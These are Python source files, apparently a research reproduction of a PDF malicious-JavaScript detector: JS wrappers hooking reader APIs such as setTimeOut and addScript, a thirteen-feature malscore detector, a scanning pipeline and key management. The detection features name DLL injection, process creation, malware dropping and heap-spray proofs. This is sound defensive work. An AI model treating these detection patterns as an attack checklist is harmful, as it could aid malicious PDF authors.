            key_text=self.key_text,
            scheme=scheme,
            cipher_key=cipher_key,
            seq=seq,
            fake_keys=fake_keys,
        )

    def wrap_dynamic_code_expr(self, prefix: str, key_var: str, seq: int) -> Tuple[str, str]:
        """Enter/leave snippets prepended/appended to dynamic scripts."""
        pro = self._soap_call("enter", key_var, seq, dyn=True)
        epi = self._soap_call("leave", key_var, seq, dyn=True)
        return pro, epi

    def _dynamic_wrappers(self, prefix: str, key_var: str, seq: int) -> List[str]:
        """JS that re-points the Table IV methods at wrapping versions."""
        pro, epi = self.wrap_dynamic_code_expr(prefix, key_var, seq)
        pro_var = f"{prefix}p"
        epi_var = f"{prefix}e"
        header = (
            f"var {pro_var} = {js_string_literal(pro)};"
            f" var {epi_var} = {js_string_literal(epi)};"
        )
        wrappers = [
            # app.setTimeOut / app.setInterval (delayed execution, §IV-B)
            f"try {{ var {prefix}st = app.setTimeOut;"
            f" app.setTimeOut = function(c, m) {{ return {prefix}st({pro_var} + c + {epi_var}, m); }};"
            f" }} catch ({prefix}x1) {{}}",
            f"try {{ var {prefix}si = app.setInterval;"
            f" app.setInterval = function(c, m) {{ return {prefix}si({pro_var} + c + {epi_var}, m); }};"
            f" }} catch ({prefix}x2) {{}}",
            # Doc.addScript / setAction / setPageAction (staged, Table IV)
            f"try {{ var {prefix}as = this.addScript;"
            f" this.addScript = function(n, c) {{ return {prefix}as(n, {pro_var} + c + {epi_var}); }};"
            f" }} catch ({prefix}x3) {{}}",
            f"try {{ var {prefix}sa = this.setAction;"
            f" this.setAction = function(t, c) {{ return {prefix}sa(t, {pro_var} + c + {epi_var}); }};"
            f" }} catch ({prefix}x4) {{}}",
            f"try {{ var {prefix}sp = this.setPageAction;"
            f" this.setPageAction = function(p, t, c) {{ return {prefix}sp(p, t, {pro_var} + c + {epi_var}); }};"
            f" }} catch ({prefix}x5) {{}}",
            f"try {{ var {prefix}bm = this.bookmarkRoot.setAction;"
            f" this.bookmarkRoot.setAction = function(c) {{ return {prefix}bm({pro_var} + c + {epi_var}); }};"
            f" }} catch ({prefix}x6) {{}}",
        ]
        return [header] + wrappers
