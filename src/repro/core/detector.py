"""The malscore detector (§III-E, Equation 1, Table VII).

Thirteen binary features:

====  ======================================  ========
F#    Feature                                 Group
====  ======================================  ========
F1    JS-chain object ratio ≥ 0.2             static
F2    PDF header obfuscation                  static
F3    hex code in keyword                     static
F4    ≥ 1 empty object on JS chains           static
F5    encoding level ≥ 2                      static
F6    process creation                        out-JS
F7    DLL injection                           out-JS
F8    memory consumption ≥ 100 MB             in-JS
F9    network access                          in-JS
F10   mapped memory search                    in-JS
F11   malware dropping                        in-JS
F12   process creation                        in-JS
F13   DLL injection                           in-JS
====  ======================================  ========

``malscore = w1 * Σ F1..F7 + w2 * Σ F8..F13`` with ``w1 = 1``,
``w2 = 9`` and threshold ``10``: a document is tagged malicious iff at
least one in-JS feature *and* at least one other feature fire.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set, Tuple

from repro.core.static_features import StaticFeatures

STATIC_FEATURES = (1, 2, 3, 4, 5)
OUT_JS_FEATURES = (6, 7)
IN_JS_FEATURES = (8, 9, 10, 11, 12, 13)

F_OUT_PROCESS = 6
F_OUT_INJECT = 7
F_MEMORY = 8
F_NETWORK = 9
F_MEMORY_SEARCH = 10
F_DROP = 11
F_PROCESS = 12
F_INJECT = 13

FEATURE_NAMES: Dict[int, str] = {
    1: "js-chain object ratio",
    2: "header obfuscation",
    3: "hex code in keyword",
    4: "empty objects",
    5: "encoding levels",
    6: "process creation (out-JS)",
    7: "DLL injection (out-JS)",
    8: "suspicious memory consumption (in-JS)",
    9: "network access (in-JS)",
    10: "mapped memory search (in-JS)",
    11: "malware dropping (in-JS)",
    12: "process creation (in-JS)",
    13: "DLL injection (in-JS)",
}

#: Map a syscall category (repro.winapi.syscalls.SyscallEvent.category)
#: to its in-JS feature number.
IN_JS_CATEGORY_FEATURE: Dict[str, int] = {
    "network": F_NETWORK,
    "memory_search": F_MEMORY_SEARCH,
    "malware_drop": F_DROP,
    "process_create": F_PROCESS,
    "dll_inject": F_INJECT,
}

#: ... and to its out-JS feature number (only two count, Table II).
OUT_JS_CATEGORY_FEATURE: Dict[str, int] = {
    "process_create": F_OUT_PROCESS,
    "dll_inject": F_OUT_INJECT,
}


@dataclass(frozen=True)
class DetectorConfig:
    """Table VII parameter configuration."""

    w1: float = 1.0
    w2: float = 9.0
    threshold: float = 10.0
    memory_threshold_bytes: int = 100 * 1024 * 1024
    ratio_threshold: float = 0.2
    empty_object_threshold: int = 1
    encoding_level_threshold: int = 2
    #: Zero tolerance: any fake SOAP message tags the active document.
    fake_message_is_malicious: bool = True


@dataclass
class FeatureVector:
    """A concrete binary assignment of F1..F13."""

    bits: Tuple[int, ...]

    def __post_init__(self) -> None:
        if len(self.bits) != 13 or any(b not in (0, 1) for b in self.bits):
            raise ValueError("feature vector must be 13 binary values")

    @classmethod
    def from_sets(
        cls, static: Optional[StaticFeatures], fired: Set[int]
    ) -> "FeatureVector":
        bits = [0] * 13
        if static is not None:
            bits[0:5] = list(static.binary())
        for feature in fired:
            if 6 <= feature <= 13:
                bits[feature - 1] = 1
        return cls(tuple(bits))

    def __getitem__(self, feature_number: int) -> int:
        return self.bits[feature_number - 1]

    def malscore(self, config: DetectorConfig) -> float:
        """Equation 1."""
        first = sum(self.bits[0:7])
        second = sum(self.bits[7:13])
        return config.w1 * first + config.w2 * second

    def fired(self) -> List[int]:
        return [i + 1 for i, bit in enumerate(self.bits) if bit]

    def fired_names(self) -> List[str]:
        return [FEATURE_NAMES[f] for f in self.fired()]

    @property
    def any_in_js(self) -> bool:
        return any(self.bits[7:13])


@dataclass
class Verdict:
    """The detector's judgement for one document."""

    malicious: bool
    malscore: float
    features: FeatureVector
    document: str
    key_text: Optional[str] = None
    reasons: List[str] = field(default_factory=list)

    def summary(self) -> str:
        flag = "MALICIOUS" if self.malicious else "benign"
        fired = ", ".join(self.features.fired_names()) or "none"
        return f"{self.document}: {flag} (malscore={self.malscore:g}; fired: {fired})"


class DocumentScoreState:
    """Per-open-document scoring state kept by the runtime detector.

    The paper: "For each unknown open PDF which has carried out at
    least one in-JS operation, we maintain a separate malscore and a
    set of related operations."
    """

    def __init__(
        self, key_text: str, document: str, static: Optional[StaticFeatures]
    ) -> None:
        self.key_text = key_text
        self.document = document
        self.static = static
        self.fired: Set[int] = set()
        self.activated = False  # ≥ 1 in-JS sensitive operation seen
        self.fake_message = False
        self.alerted = False
        self.operation_log: List[str] = []
        self.dropped_paths: List[str] = []

    def record_in_js(self, feature: int, description: str) -> None:
        if feature not in IN_JS_FEATURES:
            raise ValueError(f"F{feature} is not an in-JS feature")
        self.fired.add(feature)
        self.activated = True
        self.operation_log.append(f"in-JS F{feature}: {description}")

    def record_out_js(self, feature: int, description: str) -> None:
        if feature not in OUT_JS_FEATURES:
            raise ValueError(f"F{feature} is not an out-JS feature")
        self.fired.add(feature)
        self.operation_log.append(f"out-JS F{feature}: {description}")

    def feature_vector(self) -> FeatureVector:
        return FeatureVector.from_sets(self.static, self.fired)


class MalscoreDetector:
    """Computes verdicts from per-document states."""

    def __init__(self, config: Optional[DetectorConfig] = None) -> None:
        self.config = config if config is not None else DetectorConfig()

    def evaluate(self, state: DocumentScoreState) -> Verdict:
        vector = state.feature_vector()
        score = vector.malscore(self.config)
        reasons = [FEATURE_NAMES[f] for f in vector.fired()]
        malicious = score >= self.config.threshold
        if state.fake_message and self.config.fake_message_is_malicious:
            malicious = True
            reasons.append("fake context-monitoring message (zero tolerance)")
        return Verdict(
            malicious=malicious,
            malscore=score,
            features=vector,
            document=state.document,
            key_text=state.key_text,
            reasons=reasons,
        )
