"""End-to-end protection pipeline.

Glues the two phases together the way a deployed end-host would run
them:

* :meth:`ProtectionPipeline.protect` — run the front-end over incoming
  PDF bytes, producing a :class:`ProtectedDocument` (instrumented
  bytes + key + de-instrumentation spec).
* :class:`MonitoredSession` — one protected reader session: a simulated
  Windows machine with the trampoline/hook DLL installed, the tiny SOAP
  server and the runtime monitor listening, and a reader process.
* :meth:`ProtectionPipeline.open_protected` — convenience one-shot:
  open a protected document in a fresh session, pump timers, fire the
  close events, and report the verdict.
"""

from __future__ import annotations

import contextlib
from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro import limits as limits_mod
from repro import obs as obs_mod
from repro.obs import profile as profile_mod
from repro.core.confine import build_hook_rules
from repro.core.deinstrument import (
    DeinstrumentationPolicy,
    DeinstrumentationSpec,
    deinstrument,
)
from repro.core.detector import (
    F_DROP,
    F_MEMORY,
    F_PROCESS,
    FEATURE_NAMES,
    DetectorConfig,
    FeatureVector,
    Verdict,
)
from repro.core.instrument import InstrumentationResult, Instrumenter
from repro.core.keys import KeyStore
from repro.core.runtime_monitor import Alert, RuntimeMonitor
from repro.core.soap import TinySOAPServer
from repro.core.static_features import StaticFeatures
from repro.limits import DEFAULT_LIMITS, ResourceLimitExceeded, ScanLimits
from repro.pdf.filters import FilterError
from repro.pdf.lexer import LexerError
from repro.pdf.parser import PDFParseError
from repro.reader.reader import OpenOutcome, Reader
from repro.winapi.hooks import DETECTOR_EVENT_PORT, HookMode, TrampolineDLL
from repro.winapi.process import System

#: Exceptions a hostile/corrupt download can legitimately raise out of
#: the parsing front-end.  ``scan`` converts these into an ``errored``
#: :class:`OpenReport` instead of letting them escape — a gateway
#: filter must keep running whatever bytes arrive.  ``RecursionError``
#: is the belt-and-braces backstop behind the nesting-depth budget.
PARSE_ERRORS = (PDFParseError, LexerError, FilterError, RecursionError)


@dataclass
class ProtectedDocument:
    """The front-end's output for one document."""

    data: bytes
    name: str
    key_text: str
    features: StaticFeatures
    spec: DeinstrumentationSpec
    instrumentation: InstrumentationResult
    #: Recursively protected embedded PDF documents (§VI extension).
    embedded: List["ProtectedDocument"] = field(default_factory=list)

    @property
    def has_javascript(self) -> bool:
        return self.features.has_javascript

    @property
    def js_analysis(self):
        """Static JS analysis recorded by the front-end (may be None)."""
        return self.instrumentation.js_analysis

    @property
    def triage_eligible(self) -> bool:
        return self.instrumentation.triage_eligible

    @property
    def triage_proven_malicious(self) -> bool:
        return self.instrumentation.triage_proven_malicious

    @property
    def triage_fail_open_reason(self) -> str:
        return self.instrumentation.triage_fail_open_reason


@dataclass
class OpenReport:
    """Everything observed while opening one protected document.

    ``protected`` is ``None`` only for *errored* reports — documents
    the front-end could not even parse (see :meth:`errored_report`).
    ``outcome`` is additionally ``None`` for *triaged* reports, whose
    verdict was synthesised from static analysis without opening a
    reader session (``triaged=True``).
    """

    protected: Optional[ProtectedDocument]
    outcome: Optional[OpenOutcome]
    verdict: Verdict
    alerts: List[Alert] = field(default_factory=list)
    fake_messages: int = 0
    quarantined_files: List[str] = field(default_factory=list)
    #: Parse/filter error text when the document never reached phase II.
    error: Optional[str] = None
    #: Phase-II emulation was skipped on static-analysis evidence.
    triaged: bool = False
    #: Which resource budget aborted the scan (``"stream-bytes"``,
    #: ``"deadline"``, ...) — set only for budget-errored reports.
    limit_kind: Optional[str] = None
    #: Phase/hotspot attribution when the pipeline ran with
    #: ``profile=True`` (see :mod:`repro.obs.profile`); else None.
    profile: Optional[profile_mod.ScanProfile] = None

    @classmethod
    def errored_report(cls, name: str, error: str) -> "OpenReport":
        """A structured report for a document that could not be scanned."""
        verdict = Verdict(
            malicious=False,
            malscore=0.0,
            features=FeatureVector(tuple([0] * 13)),
            document=name,
            reasons=[f"scan errored: {error}"],
        )
        return cls(protected=None, outcome=None, verdict=verdict, error=error)

    @classmethod
    def limit_report(cls, name: str, exc: ResourceLimitExceeded) -> "OpenReport":
        """A structured report for a scan aborted by a resource budget.

        The evidence names the exact budget (kind, configured limit,
        what blew it) so operators can distinguish a decompression bomb
        from a slow parse from a runaway script.
        """
        evidence = exc.evidence()
        detail = f" ({evidence['detail']})" if evidence.get("detail") else ""
        verdict = Verdict(
            malicious=False,
            malscore=0.0,
            features=FeatureVector(tuple([0] * 13)),
            document=name,
            reasons=[
                f"resource limit exceeded: {evidence['kind']}"
                f" (limit {evidence['limit']}){detail}"
            ],
        )
        return cls(
            protected=None,
            outcome=None,
            verdict=verdict,
            error=str(exc),
            limit_kind=exc.kind,
        )

    @property
    def errored(self) -> bool:
        """The document never produced a verdict (e.g. unparseable)."""
        return self.error is not None

    @property
    def crashed(self) -> bool:
        if self.outcome is None:
            return False
        return self.outcome.crashed or self.outcome.handle.crashed

    @property
    def did_nothing(self) -> bool:
        """No in-JS sensitive op, no crash: the sample was inert (the
        paper's 58 "noise" samples whose CVEs missed the reader version)."""
        return not self.errored and not self.crashed and not self.verdict.features.any_in_js

    @property
    def js_analysis(self):
        """Advisory static-analysis evidence (None for errored reports)."""
        return self.protected.js_analysis if self.protected else None

    def to_dict(self) -> Dict[str, object]:
        """JSON-serialisable summary (used by the CLI and log sinks)."""
        return {
            "document": self.protected.name if self.protected else self.verdict.document,
            "key": self.protected.key_text if self.protected else None,
            "malicious": self.verdict.malicious,
            "malscore": self.verdict.malscore,
            "features": self.verdict.features.fired(),
            "feature_names": self.verdict.features.fired_names(),
            "reasons": list(self.verdict.reasons),
            "crashed": self.crashed,
            "crash_reason": self.outcome.crash_reason if self.outcome else None,
            "errored": self.errored,
            "error": self.error,
            "limit_kind": self.limit_kind,
            "inert": self.did_nothing,
            "triaged": self.triaged,
            "static_js": self.js_analysis.to_dict() if self.js_analysis else None,
            "profile": self.profile.to_dict() if self.profile else None,
            "fake_messages": self.fake_messages,
            "quarantined": list(self.quarantined_files),
            "alerts": [
                {
                    "document": alert.verdict.document,
                    "malscore": alert.verdict.malscore,
                    "time": alert.time,
                    "confinement": list(alert.confinement_actions),
                }
                for alert in self.alerts
            ],
        }


class MonitoredSession:
    """One protected reader session on a fresh simulated machine."""

    def __init__(
        self,
        key_store: KeyStore,
        config: Optional[DetectorConfig] = None,
        reader_version: str = "9.0",
        hook_mode: HookMode = HookMode.IAT,
        persistent_executables: Optional[Dict[str, str]] = None,
        limits: Optional[ScanLimits] = None,
        obs: Optional[obs_mod.Observability] = None,
        js_engine: Optional[str] = None,
    ) -> None:
        self.system = System()
        self.limits = limits if limits is not None else DEFAULT_LIMITS
        self.obs = obs if obs is not None else obs_mod.get_default()
        self.config = config if config is not None else DetectorConfig()
        self.monitor = RuntimeMonitor(
            key_store, self.system, config=self.config, obs=self.obs
        )
        if persistent_executables is not None:
            # §III-E: malscore is volatile per reader session, but "the
            # maintained list of executables is persistently stored" —
            # the pipeline shares one dict across all its sessions.
            self.monitor.downloaded_executables = persistent_executables
        self.soap_server = TinySOAPServer(self.monitor, obs=self.obs)
        self.soap_server.register(self.system.network)
        self.event_channel = self.system.network.register_service(
            "127.0.0.1", DETECTOR_EVENT_PORT, "hook-dll-events"
        )
        self.event_channel.subscribe(self.monitor.handle_syscall_channel)
        trampoline = TrampolineDLL(
            rules=build_hook_rules(self.system.config.whitelisted_programs),
            hook_mode=hook_mode,
        )
        js_steps = self.limits.max_js_steps
        self.reader = Reader(
            system=self.system,
            version=reader_version,
            trampoline=trampoline,
            detector_channel=self.event_channel,
            max_js_steps=js_steps if js_steps is not None else 20_000_000,
            obs=self.obs,
            js_engine=js_engine,
        )

    def open(
        self,
        protected: ProtectedDocument,
        pump_seconds: float = 5.0,
        fire_close: bool = True,
    ) -> OpenReport:
        """Open one protected document and watch what happens."""
        with self.obs.tracer.span("session.open", document=protected.name) as sp:
            virtual_start = self.system.clock.now()
            self._register_tree(protected)
            process = self.reader.process()
            self.monitor.attach_reader_process(process)
            outcome = self.reader.open(protected.data, protected.name)
            if not outcome.crashed:
                self.reader.pump(pump_seconds)
            if fire_close and not outcome.crashed and outcome.handle.open:
                self.reader.close(outcome.handle)
            with self.obs.tracer.span("session.verdict", document=protected.name):
                with profile_mod.phase("verdict"):
                    verdict = self.monitor.verdict_for(protected.key_text)
            sp.set_tag("virtual_s", self.system.clock.now() - virtual_start)
            sp.set_tag("malicious", verdict.malicious)
            sp.set_tag("crashed", outcome.crashed or outcome.handle.crashed)
        return OpenReport(
            protected=protected,
            outcome=outcome,
            verdict=verdict,
            alerts=list(self.monitor.alerts),
            fake_messages=len(self.monitor.fake_messages),
            quarantined_files=list(self.system.filesystem.quarantine_log),
        )

    def _register_tree(self, protected: ProtectedDocument) -> None:
        """Register a protected document and its embedded children."""
        self.monitor.register_document(
            protected.key_text, protected.name, protected.features
        )
        for child in protected.embedded:
            self._register_tree(child)

    def open_raw(self, data: bytes, name: str = "document.pdf") -> OpenOutcome:
        """Open an unprotected document (no front-end, no key)."""
        process = self.reader.process()
        self.monitor.attach_reader_process(process)
        return self.reader.open(data, name)

    def verdict_for(self, protected: ProtectedDocument) -> Verdict:
        return self.monitor.verdict_for(protected.key_text)

    def close(self) -> None:
        self.reader.close_all()
        self.monitor.on_reader_closed()


@dataclass(frozen=True)
class PipelineSettings:
    """Everything needed to (re)build an equivalent pipeline.

    Picklable on purpose: the batch layer ships settings to worker
    threads *and* worker processes, each of which builds its own
    pipeline (``ProtectionPipeline`` instances share mutable state —
    key store, instrumenter RNG, persistent executables — and are not
    safe to share across workers).
    """

    reader_version: str = "9.0"
    seed: Optional[int] = 1301
    hook_mode: HookMode = HookMode.IAT
    config: Optional[DetectorConfig] = None
    #: Opt-in benign-triage fast path: skip Phase-II emulation when
    #: static analysis proves the skip cannot change the verdict.
    triage: bool = False
    #: Resource budgets enforced over every scan (hostile-input armour).
    limits: ScanLimits = DEFAULT_LIMITS
    #: Attach a :class:`~repro.obs.profile.ScanProfile` (phase timings +
    #: JS hotspots) to every ``OpenReport`` this pipeline produces.
    profile: bool = False
    #: JS engine used by reader sessions: ``"ast"`` (reference
    #: tree-walker) or ``"bytecode"`` (compiled).  ``None`` defers to the
    #: ``REPRO_JS_ENGINE`` env var, then the package default — see
    #: :func:`repro.js.resolve_js_engine`.  Both engines produce
    #: identical observed API channels, monitor events and verdicts
    #: (enforced by ``tests/js/test_differential.py``).
    js_engine: Optional[str] = None

    def build(self, obs: Optional[obs_mod.Observability] = None) -> "ProtectionPipeline":
        """A fresh, fully independent pipeline with these settings."""
        return ProtectionPipeline(
            config=self.config,
            reader_version=self.reader_version,
            seed=self.seed,
            hook_mode=self.hook_mode,
            triage=self.triage,
            limits=self.limits,
            profile=self.profile,
            js_engine=self.js_engine,
            obs=obs,
        )


class ProtectionPipeline:
    """The deployed system: front-end + per-session back-end."""

    def __init__(
        self,
        config: Optional[DetectorConfig] = None,
        reader_version: str = "9.0",
        seed: Optional[int] = 1301,
        deinstrument_policy: Optional[DeinstrumentationPolicy] = None,
        hook_mode: HookMode = HookMode.IAT,
        triage: bool = False,
        limits: Optional[ScanLimits] = None,
        profile: bool = False,
        js_engine: Optional[str] = None,
        obs: Optional[obs_mod.Observability] = None,
    ) -> None:
        self.config = config if config is not None else DetectorConfig()
        self.reader_version = reader_version
        self.hook_mode = hook_mode
        self.triage = triage
        self.profile = profile
        self.js_engine = js_engine
        self.limits = limits if limits is not None else DEFAULT_LIMITS
        self.settings = PipelineSettings(
            reader_version=reader_version,
            seed=seed,
            hook_mode=hook_mode,
            config=config,
            triage=triage,
            limits=self.limits,
            profile=profile,
            js_engine=js_engine,
        )
        self.obs = obs if obs is not None else obs_mod.get_default()
        self.key_store = KeyStore.create(seed)
        self.instrumenter = Instrumenter(
            key_store=self.key_store, seed=seed, obs=self.obs
        )
        #: Executables downloaded in JS context, shared by every session
        #: this pipeline opens (persistent storage in the paper).
        self.persistent_executables: Dict[str, str] = {}
        self.policy = (
            deinstrument_policy
            if deinstrument_policy is not None
            else DeinstrumentationPolicy()
        )

    def fork(self, obs: Optional[obs_mod.Observability] = None) -> "ProtectionPipeline":
        """A fresh pipeline with identical settings but its own state.

        This is the re-entrancy primitive the batch layer relies on:
        forked pipelines never share the key store, instrumenter RNG or
        monitor state, so each worker can scan concurrently.  Verdicts
        are seed-determined, so a fork scans any document to the same
        verdict as the original (see ``tests/property``).
        """
        return self.settings.build(obs=obs)

    @classmethod
    def from_settings(
        cls,
        settings: PipelineSettings,
        obs: Optional[obs_mod.Observability] = None,
    ) -> "ProtectionPipeline":
        return settings.build(obs=obs)

    # -- Phase I -----------------------------------------------------------

    def protect(self, data: bytes, name: str = "document.pdf") -> ProtectedDocument:
        with limits_mod.activate(self.limits):
            with self.obs.tracer.span("pipeline.protect", document=name):
                result = self.instrumenter.instrument(data, name)
        if self.obs.enabled:
            self.obs.metrics.inc("docs_protected")
        return self._wrap_result(result, name)

    def _wrap_result(self, result: InstrumentationResult, name: str) -> ProtectedDocument:
        return ProtectedDocument(
            data=result.data,
            name=name,
            key_text=result.key_text,
            features=result.features,
            spec=result.spec,
            instrumentation=result,
            embedded=[
                self._wrap_result(sub, sub.spec.document_name)
                for sub in result.embedded
            ],
        )

    # -- Phase II ------------------------------------------------------------

    def session(self) -> MonitoredSession:
        return MonitoredSession(
            self.key_store,
            config=self.config,
            reader_version=self.reader_version,
            hook_mode=self.hook_mode,
            persistent_executables=self.persistent_executables,
            limits=self.limits,
            obs=self.obs,
            js_engine=self.js_engine,
        )

    def open_protected(
        self,
        protected: ProtectedDocument,
        pump_seconds: float = 5.0,
        fire_close: bool = True,
    ) -> OpenReport:
        session = self.session()
        try:
            return session.open(
                protected, pump_seconds=pump_seconds, fire_close=fire_close
            )
        finally:
            session.close()

    def scan(self, data: bytes, name: str = "document.pdf") -> OpenReport:
        """Protect + open in one go (the common end-host flow).

        Malformed/truncated input never raises: parser-level failures
        come back as a structured report with ``errored=True`` (the
        gateway keeps serving the rest of its queue).

        With ``triage`` enabled, a document whose static analysis is
        provably clean (no JS, or JS with no suspicious findings, no
        side-effect APIs and no active content) skips the monitored
        reader session; its verdict is synthesised from the static
        features alone and is byte-identical to what a full run would
        report.  Anything the analysis is unsure about — including the
        analysis itself erroring — falls through to full emulation.
        """
        with self.obs.tracer.span("pipeline.scan", document=name) as span:
            scan_profile: Optional[profile_mod.ScanProfile] = None
            if self.profile:
                scan_profile = profile_mod.ScanProfile().start()
            with (
                profile_mod.activate(scan_profile)
                if scan_profile is not None
                else contextlib.nullcontext()
            ):
                try:
                    with limits_mod.activate(self.limits):
                        protected = self.protect(data, name)
                        if self.triage and protected.triage_proven_malicious:
                            report = self._triage_malicious_report(protected)
                            span.set_tag("triaged", True)
                            span.set_tag("proven", "malicious")
                        elif self.triage and protected.triage_eligible:
                            report = self._triage_report(protected)
                            span.set_tag("triaged", True)
                        else:
                            report = self.open_protected(protected)
                except ResourceLimitExceeded as error:
                    report = OpenReport.limit_report(name, error)
                    span.set_tag("errored", True)
                    span.set_tag("limit_kind", error.kind)
                except PARSE_ERRORS as error:
                    report = OpenReport.errored_report(
                        name, f"{type(error).__name__}: {error}"
                    )
                    span.set_tag("errored", True)
            if scan_profile is not None:
                report.profile = scan_profile.finish()
        if self.obs.enabled:
            metrics = self.obs.metrics
            metrics.inc("docs_scanned")
            if self.triage and not report.errored:
                metrics.inc(
                    "triage", result="skipped" if report.triaged else "full"
                )
                if report.triaged:
                    metrics.inc(
                        "triage_proven_malicious"
                        if report.verdict.malicious
                        else "triage_proven_benign"
                    )
                elif report.protected is not None:
                    metrics.inc(
                        "triage_failed_open",
                        reason=report.protected.triage_fail_open_reason
                        or "none",
                    )
            if report.limit_kind is not None:
                metrics.inc("limits_hit", kind=report.limit_kind)
            if report.errored:
                metrics.inc("scan_errors")
            else:
                metrics.inc("verdicts", malicious=report.verdict.malicious)
                metrics.observe(
                    "malscore",
                    report.verdict.malscore,
                    buckets=(0, 1, 2, 5, 10, 15, 20, 30, 50),
                )
        return report

    def _triage_report(self, protected: ProtectedDocument) -> OpenReport:
        """Synthesise the verdict a full benign run would produce.

        Mirrors :meth:`MalscoreDetector.evaluate` over a score state
        with no runtime features fired — which is exactly the state a
        triage-eligible document reaches after a full session (static
        bits alone sum to at most 5 < threshold 10, so the verdict is
        always benign)."""
        vector = FeatureVector.from_sets(protected.features, set())
        score = vector.malscore(self.config)
        verdict = Verdict(
            malicious=score >= self.config.threshold,
            malscore=score,
            features=vector,
            document=protected.name,
            key_text=protected.key_text,
            reasons=[FEATURE_NAMES[f] for f in vector.fired()],
        )
        return OpenReport(
            protected=protected, outcome=None, verdict=verdict, triaged=True
        )

    def _triage_malicious_report(
        self, protected: ProtectedDocument
    ) -> OpenReport:
        """Synthesise a malicious verdict from a static *proof*.

        Mirrors the ``fake_message`` precedent in
        :meth:`MalscoreDetector.evaluate`: a proof outranks the score
        arithmetic, so ``malicious`` is forced True even if the fired
        set alone lands under the threshold.  The fired runtime
        features are the ones the proofs guarantee a full session
        would record: F8 (memory) for a proven heap spray / staged
        exploit, F11+F12 (drop + process) for a proven
        ``exportDataObject(nLaunch>=1)``."""
        assert protected.js_analysis is not None
        proofs = protected.js_analysis.proof_findings()
        fired = set()
        for proof in proofs:
            if proof.rule in ("absint-heap-spray", "absint-staged-eval"):
                fired.add(F_MEMORY)
            elif proof.rule == "absint-export-launch":
                fired.update((F_DROP, F_PROCESS))
        vector = FeatureVector.from_sets(protected.features, fired)
        score = vector.malscore(self.config)
        reasons = [FEATURE_NAMES[f] for f in vector.fired()]
        reasons.extend(f"statically proven: {p.message}" for p in proofs)
        verdict = Verdict(
            malicious=True,
            malscore=score,
            features=vector,
            document=protected.name,
            key_text=protected.key_text,
            reasons=reasons,
        )
        return OpenReport(
            protected=protected, outcome=None, verdict=verdict, triaged=True
        )

    # -- De-instrumentation --------------------------------------------------------

    def maybe_deinstrument(
        self, protected: ProtectedDocument, report: OpenReport
    ) -> Optional[bytes]:
        """After a benign open, restore the original document bytes.

        Returns the de-instrumented bytes when the policy says it is
        time, else None.  Never de-instruments after a malicious or
        crashed open.
        """
        if report.verdict.malicious or report.crashed:
            self.policy.reset(protected.key_text)
            return None
        if not self.policy.record_benign_open(protected.key_text):
            return None
        if not protected.instrumentation.instrumented_scripts:
            return protected.data
        return deinstrument(protected.data, protected.spec)


_default_pipeline: Optional[ProtectionPipeline] = None


def _get_default_pipeline() -> ProtectionPipeline:
    global _default_pipeline
    if _default_pipeline is None:
        _default_pipeline = ProtectionPipeline()
    return _default_pipeline


def protect(data: bytes, name: str = "document.pdf") -> ProtectedDocument:
    """Instrument raw PDF bytes with the default pipeline."""
    return _get_default_pipeline().protect(data, name)


def open_protected(protected: ProtectedDocument, **kwargs: object) -> OpenReport:
    """Open a protected document in a fresh monitored session."""
    return _get_default_pipeline().open_protected(protected, **kwargs)  # type: ignore[arg-type]
