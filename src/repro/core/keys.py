"""Key management for the SOAP channel (§III-C).

The key protecting context-monitoring messages has two fields:

* **Detector ID** — generated once when the system is installed; lets
  the detector discard messages from documents instrumented by *other*
  installations (e.g. an already-instrumented document downloaded from
  elsewhere).
* **Instrumentation Key** — generated fresh for every instrumented
  document; uniquely identifies it.  The detector keeps a mapping from
  key to document so in-JS operations can be attributed.

Keys are random (no recognisable signature), which — together with
monitoring-code randomisation and fake copies — defends against the
memory-scraping mimicry attack of §IV-B.
"""

from __future__ import annotations

import hashlib
import random
from dataclasses import dataclass, field
from typing import Dict, Optional

KEY_SEPARATOR = ":"
_KEY_BYTES = 12


def _token(rng: random.Random) -> str:
    return "".join(rng.choice("0123456789abcdef") for _ in range(_KEY_BYTES * 2))


@dataclass(frozen=True)
class InstrumentationKey:
    """``<detector_id>:<instrumentation_key>`` as carried in messages."""

    detector_id: str
    document_key: str

    def render(self) -> str:
        return f"{self.detector_id}{KEY_SEPARATOR}{self.document_key}"

    @classmethod
    def parse(cls, text: str) -> Optional["InstrumentationKey"]:
        parts = text.split(KEY_SEPARATOR)
        if len(parts) != 2 or not all(parts):
            return None
        return cls(detector_id=parts[0], document_key=parts[1])


@dataclass
class KeyStore:
    """The detector-side mapping between keys and documents."""

    detector_id: str
    _documents: Dict[str, str] = field(default_factory=dict)
    _fingerprints: Dict[str, str] = field(default_factory=dict)
    _rng: random.Random = field(default_factory=lambda: random.Random(0xC0DE))

    @classmethod
    def create(cls, seed: Optional[int] = None) -> "KeyStore":
        rng = random.Random(seed if seed is not None else 0xC0DE)
        store = cls(detector_id=_token(rng))
        store._rng = rng
        return store

    def issue(self, document_name: str, content_fingerprint: str) -> InstrumentationKey:
        """Issue a key for one document.

        The content fingerprint prevents duplicate instrumentation: a
        document already holding one of our keys keeps it (§III-C: "we
        first ensure that no duplicate instrumentation is carried out").
        """
        existing = self._fingerprints.get(content_fingerprint)
        if existing is not None:
            return InstrumentationKey(self.detector_id, existing)
        document_key = _token(self._rng)
        self._documents[document_key] = document_name
        self._fingerprints[content_fingerprint] = document_key
        return InstrumentationKey(self.detector_id, document_key)

    def validate(self, key_text: str) -> Optional[str]:
        """Return the document name for a valid key, else None."""
        key = InstrumentationKey.parse(key_text)
        if key is None:
            return None
        if key.detector_id != self.detector_id:
            return None  # instrumented by some other installation
        return self._documents.get(key.document_key)

    def forget(self, key_text: str) -> None:
        key = InstrumentationKey.parse(key_text)
        if key is not None:
            name = self._documents.pop(key.document_key, None)
            if name is not None:
                self._fingerprints = {
                    fp: dk
                    for fp, dk in self._fingerprints.items()
                    if dk != key.document_key
                }

    def __len__(self) -> int:
        return len(self._documents)


def fingerprint(data: bytes) -> str:
    """Stable content fingerprint used for duplicate detection."""
    return hashlib.sha256(data).hexdigest()[:24]
