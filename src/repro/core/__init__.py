"""The paper's contribution: context-aware detection and confinement of
malicious JavaScript in PDF via static document instrumentation.

Front-end (Phase I): :mod:`repro.core.chains`,
:mod:`repro.core.static_features`, :mod:`repro.core.instrument`,
:mod:`repro.core.monitor_code`, :mod:`repro.core.keys`.

Back-end (Phase II): :mod:`repro.core.soap`,
:mod:`repro.core.runtime_monitor`, :mod:`repro.core.detector`,
:mod:`repro.core.confine`.

